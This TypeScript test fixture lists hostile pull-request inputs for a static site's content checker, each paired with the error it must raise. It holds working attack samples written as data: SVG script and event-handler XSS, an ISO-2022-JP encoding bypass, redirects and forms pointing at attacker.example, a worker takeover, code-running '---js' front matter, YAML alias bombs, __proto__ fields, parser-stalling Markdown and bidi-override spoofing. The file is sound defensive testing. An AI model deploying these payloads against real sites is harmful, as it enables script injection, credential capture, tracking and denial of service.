/**
 * Hostile inputs from issue 9, each with the outcome it must have. An attacker here is anyone who
 * can open a pull request with content or public/ files. corpus.test.ts runs every case through
 * the content check on a copy of the real content; front-matter-js.test.ts covers "---js" through
 * contentlayer2 itself, and scripts/test-hostile.ts the built pages, feeds and search index.
 */
import { article } from '../support/content-fixture'

export interface HostileCase {
  name: string
  /** The numbered point of the issue the case reproduces. */
  point: number
  /** The issue, when not issue 9: "audit" is the content audit's. */
  issue?: string
  /** An input that stalled the check: the test runs it in a worker it stops after a while. */
  stalls?: true
  files: Record<string, string | null>
  /** The check's "now", when the case is about scheduling. */
  now?: string
  /** `file:line:column` of the problem and words the message must contain; `clean` for inputs that must pass. */
  expect: { at: string; severity: 'error' | 'warning'; says: string } | 'clean'
}

const bad = 'content/articles/bad.mdx'
const svg = (inner: string, rootAttrs = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${rootAttrs} viewBox="0 0 10 10">\n${inner}\n</svg>\n`
const error = (at: string, says: string) => ({ at, severity: 'error' as const, says })
const warning = (at: string, says: string) => ({ at, severity: 'warning' as const, says })

const page = (slug: string) => ({ [`content/pages/${slug}.mdx`]: '---\ntitle: "Page"\ndescription: "A page."\n---\n\nText.\n' })
const bomb = [
  'a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]',
  ...'bcdefghi'.split('').map((k, i) => `${k}: &${k} [${Array(9).fill(`*${'abcdefghi'[i]}`).join(', ')}]`),
].join('\n')
const product = 'name: "Test GPU"\nurl: "https://shop.example/gpu"\n'

// article(): line 1 "---", 2 title, 3 description, 4 date, 5 authors, 6 tags, 7 "---", 8 blank, 9 body.
export const hostileCases: HostileCase[] = [
  // 1. public/ ships unchecked
  {
    name: 'a _redirects file sending every request away',
    point: 1,
    files: { 'public/_redirects': '/*  https://attacker.example/:splat  302\n' },
    expect: error('public/_redirects:1:1', 'host control file'),
  },
  {
    name: 'a _worker.js taking over every request',
    point: 1,
    files: { 'public/_worker.js': 'export default { fetch() { return new Response("owned") } }\n' },
    expect: error('public/_worker.js:1:1', 'host control file'),
  },
  {
    name: 'a _worker.js folder',
    point: 1,
    files: { 'public/_worker.js/index.js': 'export default {}\n' },
    expect: error('public/_worker.js/index.js:1:1', 'host control file'),
  },
  {
    name: 'a _headers file loosening the policy',
    point: 1,
    files: { 'public/_headers': '/*\n  Content-Security-Policy: default-src *\n' },
    expect: error('public/_headers:1:1', 'host control file'),
  },
  {
    name: 'a _routes.json file',
    point: 1,
    files: { 'public/_routes.json': '{"version":1,"include":["/*"],"exclude":[]}\n' },
    expect: error('public/_routes.json:1:1', 'host control file'),
  },
  {
    name: 'a raw HTML page with an inline script',
    point: 1,
    files: { 'public/offer.html': '<!doctype html><title>Offer</title><script>location="https://attacker.example"</script>\n' },
    expect: error('public/offer.html:1:1', 'HTML and JavaScript are never published'),
  },
  {
    name: 'a JavaScript file',
    point: 1,
    files: { 'public/images/track.js': 'fetch("https://attacker.example")\n' },
    expect: error('public/images/track.js:1:1', 'HTML and JavaScript are never published'),
  },
  {
    name: 'an HTML page renamed to .png',
    point: 1,
    files: { 'public/images/pixel.png': '<script>alert(1)</script>' },
    expect: error('public/images/pixel.png:1:1', 'not PNG'),
  },
  { name: 'a hidden file in public/', point: 1, files: { 'public/.env': 'SECRET=1\n' }, expect: error('public/.env:1:1', 'hidden file') },
  {
    name: 'an image in a hidden folder of public/',
    point: 1,
    files: { 'public/.well-known/x.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>' },
    expect: error('public/.well-known/x.svg:1:1', 'hidden file or folder'),
  },
  {
    name: 'an SVG with a <script>',
    point: 1,
    files: { 'public/images/evil.svg': svg('<rect width="10" height="10"/>\n<script>alert(document.domain)</script>') },
    expect: error('public/images/evil.svg:3:1', '<script> element'),
  },
  {
    name: 'an SVG with a prefixed svg:script',
    point: 1,
    files: { 'public/images/evil.svg': svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>') },
    expect: error('public/images/evil.svg:2:1', '<s:script> element'),
  },
  {
    name: 'an SVG with an onload handler',
    point: 1,
    files: { 'public/images/evil.svg': svg('<rect width="10" height="10"/>', ' onload="alert(1)"') },
    expect: error('public/images/evil.svg:1:1', 'event-handler attribute onload'),
  },
  {
    name: 'an SVG with a foreignObject',
    point: 1,
    files: { 'public/images/evil.svg': svg('<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>') },
    expect: error('public/images/evil.svg:2:1', '<foreignObject> element'),
  },
  {
    name: 'an SVG link to javascript:',
    point: 1,
    files: { 'public/images/evil.svg': svg('<a xlink:href="javascript:alert(1)"><rect width="10" height="10"/></a>') },
    expect: error('public/images/evil.svg:2:1', 'links to "javascript:alert(1)"'),
  },
  {
    name: 'an SVG loading a remote image',
    point: 1,
    files: { 'public/images/evil.svg': svg('<image href="https://tracker.example/p.gif" width="1" height="1"/>') },
    expect: error('public/images/evil.svg:2:1', 'only links inside the file'),
  },
  {
    name: 'an SVG animating a link into javascript:',
    point: 1,
    files: { 'public/images/evil.svg': svg('<a href="#x"><set attributeName="href" to="javascript:alert(1)"/><rect width="10" height="10"/></a>') },
    expect: error('public/images/evil.svg:2:', '<set> element, which is not part of a drawing'),
  },
  {
    name: 'an SVG with an entity declaration',
    point: 1,
    files: { 'public/images/evil.svg': `<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]>\n${svg('<text>&x;</text>')}` },
    expect: error('public/images/evil.svg:1:1', 'DOCTYPE or ENTITY'),
  },
  {
    name: 'an SVG style sheet importing a remote one',
    point: 1,
    files: { 'public/images/evil.svg': svg('<style>@import url(https://tracker.example/a.css);</style>') },
    expect: error('public/images/evil.svg:2:1', '<style> loads something'),
  },
  // SVG check bypasses from the audit: the check is an allowlist of what drawings need, UTF-8 only.
  {
    name: 'an SVG whose <script> hides behind an ISO-2022-JP encoding declaration',
    point: 1,
    files: {
      // Read as UTF-8 the script is inside a comment; read as ISO-2022-JP "<!--" is two kanji and the script runs.
      'public/images/evil.svg': `<?xml version="1.0" encoding="ISO-2022-JP"?>\n${svg('<text>\x1b$B<!--\x1b(B</text><script>alert(document.domain)</script><text>--></text>')}`,
    },
    expect: error('public/images/evil.svg:1:1', 'declares the encoding "ISO-2022-JP"'),
  },
  {
    name: 'an SVG with the ISO-2022-JP escape bytes but no declaration',
    point: 1,
    files: { 'public/images/evil.svg': svg('<text>\x1b$B<!--\x1b(B</text>') },
    expect: error('public/images/evil.svg:2:7', 'control character U+001B'),
  },
  ...(
    [
      ['meta', '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://attacker.example/"/>'],
      ['form', '<form xmlns="http://www.w3.org/1999/xhtml" action="https://attacker.example/"><input name="password"/></form>'],
      ['iframe', '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://attacker.example/"/>'],
      ['video', '<video xmlns="http://www.w3.org/1999/xhtml" src="https://tracker.example/v.mp4" autoplay="autoplay"/>'],
    ] as const
  ).map(([element, markup]) => ({
    name: `an SVG with an XHTML <${element}> inside`,
    point: 1,
    files: { 'public/images/evil.svg': svg(markup) },
    expect: error('public/images/evil.svg:2:1', `<${element}> element, which is not part of a drawing`),
  })),
  {
    name: 'an SVG switching a shape to the XHTML namespace',
    point: 1,
    files: { 'public/images/evil.svg': svg('<g xmlns="http://www.w3.org/1999/xhtml"><rect width="10" height="10"/></g>') },
    expect: error('public/images/evil.svg:2:1', 'switches to the namespace "http://www.w3.org/1999/xhtml"'),
  },
  ...(
    [
      ['a CSS escape in a style attribute', '<rect width="10" height="10" style="fill: \\75 rl(https://tracker.example/p)"/>', 'style on <rect>'],
      ['a CSS escape in a <style> element', '<style>rect { fill: u\\72 l(https://tracker.example/p) }</style>', '<style> loads something'],
      ['image-set() in a <style> element', '<style>rect { mask-image: image-set("https://tracker.example/p.png" 1x) }</style>', 'image-set()'],
      [
        '-webkit-image-set() in a style attribute',
        `<rect width="10" height="10" style="mask-image: -webkit-image-set('https://tracker.example/p.png' 1x)"/>`,
        '-webkit-image-set()',
      ],
      [
        'a url( written with character references in an attribute',
        '<rect width="10" height="10" fill="&#117;rl(https://tracker.example/p)"/>',
        'fill on <rect>',
      ],
      [
        'a url( written with character references in a <style>',
        '<style>rect { fill: &#x75;&#x72;&#x6c;(https://tracker.example/p) }</style>',
        '<style> loads something',
      ],
      ['@font-face in a <style>', '<style>@font-face { font-family: X; src: local(Arial) }</style>', '@font-face'],
    ] as const
  ).map(([what, markup, says]) => ({
    name: `an SVG loading a remote file through ${what}`,
    point: 1,
    files: { 'public/images/evil.svg': svg(markup) },
    expect: error('public/images/evil.svg:2:1', says),
  })),
  {
    name: 'an icon whose embedded PNG carries a text chunk',
    point: 1,
    files: {
      'public/favicon.ico':
        '\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00\x20\x00\x00\x00\x00\x00\x16\x00\x00\x00\x89PNG\r\n\x1a\n\x00\x00\x00\x10tEXtGPS\x0052.52N 13.41E',
    },
    expect: error('public/favicon.ico:1:1', 'the icon carries metadata (PNG tEXt in the icon)'),
  },
  {
    name: 'an SVG without a size',
    point: 1,
    files: { 'public/images/sizeless.svg': '<svg xmlns="http://www.w3.org/2000/svg"></svg>\n' },
    expect: error('public/images/sizeless.svg:1:1', 'the SVG has no size'),
  },
  {
    name: 'an SVG of zero width',
    point: 1,
    files: { 'public/images/flat.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="0" height="10" viewBox="0 0 10 10"></svg>\n' },
    expect: error('public/images/flat.svg:1:1', 'width="0" is not a positive length'),
  },
  {
    name: 'an exported drawing with a <style>, classes, a clip path, a local gradient and a filter',
    point: 1,
    files: {
      'public/images/fine.svg': `<?xml version="1.0" encoding="UTF-8"?>\n${svg(
        '<defs><style>.st0{fill:url(#g);stroke:rgb(10 20 30 / 50%)} @media (prefers-color-scheme: dark){.st0{opacity:.8}}</style>' +
          '<linearGradient id="g" gradientTransform="rotate(90)"><stop offset="0" stop-color="#fff"/></linearGradient>' +
          '<clipPath id="c"><rect width="10" height="10"/></clipPath><filter id="f"><feGaussianBlur stdDeviation="1"/></filter></defs>' +
          '<g clip-path="url(#c)" filter="url(#f)" data-name="Layer 1"><path class="st0" d="M0 0h10v10z" transform="translate(1 1) scale(.5)"/>' +
          '<text x="1" y="8" font-family="Georgia, \'Times New Roman\', serif" aria-hidden="true">A &amp; B</text><use xlink:href="#c"/></g>',
      )}`,
    },
    expect: 'clean',
  },
  {
    name: 'a plain SVG drawing with a local gradient',
    point: 1,
    files: { 'public/images/fine.svg': svg('<defs><linearGradient id="g"/></defs><rect width="10" height="10" fill="url(#g)"/><use href="#g"/>') },
    expect: 'clean',
  },

  // 2. "---js" front matter (run through contentlayer2 itself in front-matter-js.test.ts)
  {
    name: '"---js" front matter',
    point: 2,
    files: { [bad]: "---js\n{ title: require('fs').writeFileSync('/tmp/pwned', '1') }\n---\n\nBody.\n" },
    expect: error(`${bad}:1:4`, 'the first line must be exactly "---"'),
  },

  // 3. a "---x" line ends the front matter early for gray-matter
  {
    name: 'a "---x" line inside front matter',
    point: 3,
    files: { [bad]: article({ frontmatter: { '---x': '1', '"<mark onmouseover=alert(1)>[x](javascript:alert(1))</mark>"': '1' } }) },
    expect: error(`${bad}:7:1`, 'a line starting with "---" inside the front matter'),
  },

  // 4. attributes and reference-style images
  ...(['Style="color:red"', 'className="sr-only"', 'id="main-content"', 'data-pagefind-meta="title:Fake"', 'data-theme-toggle=""'] as const).map((attr) => ({
    name: `<mark ${attr}>`,
    point: 4,
    files: { [bad]: article({ body: `Text <mark ${attr}>marked</mark>.\n` }) },
    expect: error(`${bad}:9:12`, `<mark> may not have the attribute "${attr.split('=')[0]}"`),
  })),
  {
    name: 'an <abbr title> is fine',
    point: 4,
    files: { [bad]: article({ body: 'The <abbr title="Graphics processing unit">GPU</abbr>.\n' }) },
    expect: 'clean',
  },
  {
    name: 'a reference-style tracking pixel',
    point: 4,
    files: { [bad]: article({ body: 'Text ![pixel][px].\n\n[px]: https://tracker.example/p.gif\n' }) },
    expect: error(`${bad}:9:6`, 'must be a file under public/'),
  },

  // 5. late failures and silent 404s
  {
    name: 'an emoji-only tag',
    point: 5,
    files: { [bad]: article({ frontmatter: { tags: '["🚀"]' } }) },
    expect: error(`${bad}:6:8`, 'tag "🚀" has no letters or digits'),
  },
  {
    name: 'an empty tag',
    point: 5,
    files: { [bad]: article({ frontmatter: { tags: '[""]' } }) },
    expect: error(`${bad}:6:8`, 'tag "" has no letters or digits'),
  },
  { name: 'a tag with "<"', point: 5, files: { [bad]: article({ frontmatter: { tags: '["a<b"]' } }) }, expect: error(`${bad}:6:8`, 'contains "<"') },
  { name: 'a title with "]]>"', point: 5, files: { [bad]: article({ frontmatter: { title: '"Closing ]]> early"' } }) }, expect: error(`${bad}:2:1`, '"]]>"') },
  {
    name: 'a link to a tag only a draft uses',
    point: 5,
    files: { [bad]: article({ body: 'See [the price war](/tags/price-war).\n' }) },
    expect: error(`${bad}:9:5`, 'only drafts or scheduled articles use that tag'),
  },
  {
    name: 'a link to a new standing page (every content/pages file has a route)',
    point: 5,
    files: {
      'content/pages/contact.mdx': '---\ntitle: "Contact"\ndescription: "How to reach us."\n---\n\nText.\n',
      [bad]: article({ body: 'See [it](/contact).\n' }),
    },
    expect: 'clean',
  },
  {
    name: 'a page file whose address the site already uses',
    point: 5,
    files: { 'content/pages/archive.mdx': '---\ntitle: "Archive"\ndescription: "Clash."\n---\n\nText.\n' },
    expect: error('content/pages/archive.mdx:1:1', 'belongs to the site itself'),
  },
  {
    name: 'a malformed %-escape in a link',
    point: 5,
    files: { [bad]: article({ body: 'See [it](/articles/%E0%A4%A).\n' }) },
    expect: error(`${bad}:9:5`, 'a "%" must start an escape'),
  },
  {
    name: 'a malformed %-escape in an image',
    point: 5,
    files: { [bad]: article({ body: '![chart](/images/%zz.png)\n' }) },
    expect: error(`${bad}:9:1`, 'not found'),
  },
  { name: 'no published article at all', point: 5, files: {}, now: '2000-01-01T00:00:00Z', expect: error('content/articles:1:1', 'no published article') },
  { name: 'a byte order mark before the front matter is read like contentlayer2 reads it', point: 5, files: { [bad]: `\uFEFF${article()}` }, expect: 'clean' },
  {
    name: 'the same author twice',
    point: 5,
    files: { [bad]: article({ frontmatter: { authors: '\n  - thorsten-meyer\n  - thorsten-meyer' } }) },
    expect: error(`${bad}:7:5`, 'listed twice'),
  },
  {
    name: 'a "# " heading in the body',
    point: 5,
    files: { [bad]: article({ body: 'Intro.\n\n# Another title\n' }) },
    expect: error(`${bad}:11:1`, 'second page title'),
  },
  {
    name: 'a hidden content file',
    point: 5,
    files: { 'content/articles/.draft-notes.mdx': article() },
    expect: warning('content/articles/.draft-notes.mdx:1:1', 'hidden file'),
  },
  {
    name: 'tags "C++" and "C#" share one address',
    point: 5,
    files: {
      'content/articles/a-cpp.mdx': article({ frontmatter: { tags: '["C++"]' } }),
      'content/articles/b-csharp.mdx': article({ frontmatter: { tags: '["C#"]' } }),
    },
    expect: warning('content/articles/b-csharp.mdx:6:8', 'same address /tags/c as "C++"'),
  },

  // The content audit, 1: pages claiming an address the site serves itself
  ...(
    [
      ['robots', "the site's /robots.txt"],
      ['Robots', "the site's /robots.txt"],
      ['robots.txt', "the site's /robots.txt"],
      ['sitemap.xml', "the site's /sitemap.xml"],
      ['feed', "the site's /feed.xml"],
      ['404', 'the not-found page'],
      ['index', 'the home page'],
      ['search', "the site's /search"],
      ['assets', "the site's /assets/search.js"],
      ['images', 'a file of the site, public/images'],
      ['_redirects', 'addresses starting with "_"'],
    ] as const
  ).map(([slug, what]) => ({
    name: `a page file content/pages/${slug}.mdx`,
    point: 1,
    issue: 'audit',
    files: page(slug),
    expect: error(`content/pages/${slug}.mdx:1:1`, `the address /${slug} belongs to the site itself (${what}`),
  })),

  // 2. bodies that stalled the Markdown reader for minutes
  {
    name: '80 KB of nested *_ emphasis',
    point: 2,
    issue: 'audit',
    stalls: true,
    files: { [bad]: article({ body: '*_'.repeat(20_000) + 'x' + '_*'.repeat(20_000) + '\n' }) },
    expect: error(`${bad}:9:501`, 'more than 500 "*" and "_" in one paragraph'),
  },
  {
    name: 'a run of 40,000 asterisks',
    point: 2,
    issue: 'audit',
    stalls: true,
    files: { [bad]: article({ body: '*'.repeat(20_000) + 'x' + '*'.repeat(20_000) + '\n' }) },
    expect: error(`${bad}:9:501`, 'more than 500 "*" and "_" in one paragraph'),
  },
  {
    name: '3,000 nested links',
    point: 2,
    issue: 'audit',
    stalls: true,
    files: { [bad]: article({ body: '['.repeat(3000) + 'x' + '](/about)'.repeat(3000) + '\n' }) },
    expect: error(`${bad}:9:9`, 'more than 8 "[" open at once'),
  },
  {
    name: '3,000 nested images',
    point: 2,
    issue: 'audit',
    stalls: true,
    files: { [bad]: article({ body: '!['.repeat(3000) + 'x' + '](/logo.svg)'.repeat(3000) + '\n' }) },
    expect: error(`${bad}:9:18`, 'more than 8 "[" open at once'),
  },
  {
    name: 'a 3,000-level list on one line',
    point: 2,
    issue: 'audit',
    stalls: true,
    files: { [bad]: article({ body: '- '.repeat(3000) + 'x\n' }) },
    expect: error(`${bad}:9:1`, '3000 list or quote markers open this line'),
  },
  {
    name: 'a list nested by indentation',
    point: 2,
    issue: 'audit',
    stalls: true,
    files: { [bad]: article({ body: Array.from({ length: 300 }, (_, i) => ' '.repeat(2 * i) + '- x\n').join('') }) },
    expect: error(`${bad}:42:1`, 'the line is indented by 66 columns'),
  },
  {
    name: '8,000 one-item lists between paragraphs',
    point: 2,
    issue: 'audit',
    stalls: true,
    files: { [bad]: article({ body: '- x\n\nText.\n\n'.repeat(8000) }) },
    expect: error(`${bad}:2009:1`, 'more than 500 list items, quoted lines and table rows'),
  },
  {
    name: 'a 300 KB article',
    point: 2,
    issue: 'audit',
    stalls: true,
    files: { [bad]: article({ body: ('A plain sentence of text. '.repeat(40) + '\n\n').repeat(300) }) },
    expect: error(`${bad}:1:1`, 'more than the 128 KB the site reads'),
  },

  // 3. YAML that crashes the check or passes it and fails contentlayer2
  {
    name: 'a YAML alias bomb in front matter',
    point: 3,
    issue: 'audit',
    files: { [bad]: article().replace('tags: [testing]', `tags: [testing]\n${bomb}`) },
    expect: error(`${bad}:8:8`, '"*a" repeats another value (a YAML alias)'),
  },
  {
    name: 'a YAML alias bomb in a product file',
    point: 3,
    issue: 'audit',
    files: { 'content/products/test-gpu.yaml': product + bomb + '\n' },
    expect: error('content/products/test-gpu.yaml:4:8', '"*a" repeats another value (a YAML alias)'),
  },
  {
    name: 'a __proto__ field in front matter',
    point: 3,
    issue: 'audit',
    files: { [bad]: article({ frontmatter: { ['__proto__']: '{ draft: true }' } }) },
    expect: error(`${bad}:7:1`, 'a field named "__proto__"'),
  },
  {
    name: 'a __proto__ field in a source',
    point: 3,
    issue: 'audit',
    files: { [bad]: article({ frontmatter: { sources: '\n  - title: "AP"\n    __proto__: { url: "https://x.example" }' } }) },
    expect: error(`${bad}:9:5`, 'a field named "__proto__"'),
  },
  {
    name: 'a __proto__ field in a JSON product',
    point: 3,
    issue: 'audit',
    files: { 'content/products/test-gpu.json': '{\n  "name": "Test GPU",\n  "url": "https://shop.example/gpu",\n  "__proto__": { "price": "$1" }\n}\n' },
    expect: error('content/products/test-gpu.json:4:3', 'a field named "__proto__"'),
  },
  {
    name: 'a product field nested 5,000 levels deep',
    point: 3,
    issue: 'audit',
    files: { 'content/products/test-gpu.yaml': product + 'specs: ' + '['.repeat(5000) + ']'.repeat(5000) + '\n' },
    expect: error('content/products/test-gpu.yaml:3:', 'nested too deeply'),
  },

  // 4. invisible controls in front-matter text
  {
    name: 'a right-to-left override in a title',
    point: 4,
    issue: 'audit',
    files: { [bad]: article({ frontmatter: { title: '"Invoice \u202Efdp.exe"' } }) },
    expect: error(`${bad}:2:1`, 'field "title" contains U+202E (right-to-left override)'),
  },
  {
    name: 'an escaped isolate in a description',
    point: 4,
    issue: 'audit',
    files: { [bad]: article({ frontmatter: { description: '"Text \\u2067hidden"' } }) },
    expect: error(`${bad}:3:1`, 'field "description" contains U+2067 (right-to-left isolate)'),
  },
  {
    name: 'an escape character in a source title',
    point: 4,
    issue: 'audit',
    files: { [bad]: article({ frontmatter: { sources: '\n  - title: "AP \\x1b[31mred"' } }) },
    expect: error(`${bad}:8:5`, 'field "sources.0.title" contains U+001B (a control character)'),
  },
  {
    name: 'a C1 control in a product spec',
    point: 4,
    issue: 'audit',
    files: { 'content/products/test-gpu.yaml': product + 'specs:\n  - label: "Memory"\n    value: "40\\x85GB"\n' },
    expect: error('content/products/test-gpu.yaml:5:5', 'field "specs.0.value" contains U+0085'),
  },
  {
    name: 'a bidi override in an author name',
    point: 4,
    issue: 'audit',
    files: { 'content/authors/ada.mdx': '---\nname: "Ada \u202DLovelace"\n---\n\nBio.\n' },
    expect: error('content/authors/ada.mdx:2:1', 'field "name" contains U+202D'),
  },
  {
    name: 'a bidi override in a page title',
    point: 4,
    issue: 'audit',
    files: { 'content/pages/contact.mdx': '---\ntitle: "Contact \u202E"\ndescription: "How to reach us."\n---\n\nText.\n' },
    expect: error('content/pages/contact.mdx:2:1', 'field "title" contains U+202E'),
  },
  {
    name: 'tabs and line breaks in a description are fine',
    point: 4,
    issue: 'audit',
    files: { [bad]: article({ frontmatter: { description: '"One\\tTwo\\nThree"' } }) },
    expect: 'clean',
  },
]
